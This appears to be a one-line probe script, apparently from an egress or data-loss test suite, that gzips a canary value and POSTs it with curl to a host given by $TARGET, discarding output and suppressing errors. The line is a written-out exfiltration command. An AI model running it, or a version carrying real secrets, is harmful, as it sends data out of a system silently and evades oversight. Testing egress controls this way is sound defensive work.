# tries: the value by curl, gzipped by hand
# ends: nothing
# needs: curl
printf %s "$CANARY" | gzip | curl -s --data-binary @- "https://$TARGET/" >/dev/null || true
